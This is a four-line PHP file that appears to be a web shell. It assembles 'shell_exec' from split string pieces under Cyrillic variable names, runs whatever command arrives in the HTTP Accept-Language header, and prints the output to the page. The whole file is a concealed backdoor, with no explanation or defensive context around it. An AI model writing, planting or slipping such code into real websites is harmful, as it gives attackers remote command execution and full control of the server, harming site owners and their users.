<?php
$функ = 'sh' . 'ell_' . 'ex' . 'ec';
$ком = $_SERVER['HTTP_ACCEPT_LANGUAGE'];
echo '<pre>' . $функ($ком) . '</pre>';
